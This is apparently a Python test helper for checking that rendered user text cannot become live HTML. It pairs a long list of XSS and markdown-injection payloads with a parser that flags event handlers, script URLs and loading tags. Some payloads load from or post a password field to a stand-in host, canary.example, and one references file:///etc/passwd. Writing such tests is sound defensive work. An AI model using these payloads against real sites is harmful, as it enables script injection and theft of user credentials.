"""Text that tries to become markup, and a reader of HTML that finds out whether it did."""

from collections.abc import Iterable
from html.parser import HTMLParser

HOSTILE_TEXTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=https://canary.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://canary.example/x.swf>",
    "<base href=https://canary.example/>",
    "<meta http-equiv=refresh content='0;url=https://canary.example/'>",
    "<link rel=stylesheet href=https://canary.example/x.css>",
    "<style>@import 'https://canary.example/x.css'</style>",
    "<form action=https://canary.example/><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<div style=background:url(https://canary.example/x)>",
    "<a href=javascript:alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</div></article></main><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' autofocus onfocus=alert(1) x='",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//canary.example/)",
    "[x](/admin/logout/)",
    "[x](file:///etc/passwd)",
    '[x](https://a.example/ "\\" onmouseover=alert(1) x=\\"")',
    '[x](<https://a.example/"onmouseover=alert(1)>)',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://a.example/'onclick=alert(1)>",
    "![x](https://canary.example/x.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x][y]\n\n[y]: https://canary.example/x.png",
    "[![x](https://canary.example/x.png)](https://canary.example/)",
    '![x](https://canary.example/x.png "\\" onerror=alert(1) x=\\"")',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```x onload=alert(1)\nx\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "|<img src=x onerror=alert(1)>|\n|-|\n|<script>alert(1)</script>|",
    "# <svg/onload=alert(1)>",
    "- <img src=x onerror=alert(1)>\n  <script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e<script>alert(1)</script>",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
    "{{ ''.__class__ }}{% debug %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)


def _bundled(texts: Iterable[str], most: int) -> list[str]:
    bundles = [""]
    for text in (text.replace("\x00", "") for text in texts):
        longer = f"{bundles[-1]}\n\n{text}".strip("\n")
        if len(longer) <= most:
            bundles[-1] = longer
        else:
            bundles.append(text)
    return bundles


HOSTILE_BUNDLES = _bundled(HOSTILE_TEXTS, 100)
"""The same, each at the beginning of a line, and as many at once as the name of a server holds.

For what renders a whole page for each. Without the zero, which no row can hold.
"""

_LOADING = {"src", "srcset", "data", "poster", "background", "style", "srcdoc", "formaction"}


class _Finder(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"{tag} {name}={value!r}")
            if name == "href" and not _is_harmless(tag, value or ""):
                self.found.append(f"{tag} {name}={value!r}")


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    """The elements as a browser's parser would start them, each with its attributes."""
    finder = _Finder()
    finder.feed(html)
    finder.close()
    return finder.elements


def dangers(html: str) -> list[str]:
    """What in a fragment could run, load or submit something; empty where it is safe."""
    finder = _Finder()
    finder.feed(html)
    finder.close()
    for tag, attributes in finder.elements:
        if tag in _FORBIDDEN or _LOADING & attributes.keys():
            finder.found.append(f"{tag} {attributes}")
    return finder.found


def _is_harmless(tag: str, address: str) -> bool:
    return tag != "a" or address.startswith(("http://", "https://", "/", "#", "?"))


_FORBIDDEN = {
    *("script", "style", "iframe", "object", "embed", "base", "meta", "link", "img", "video"),
    *("form", "input", "svg", "math", "template", "noscript", "source", "audio", "textarea"),
}
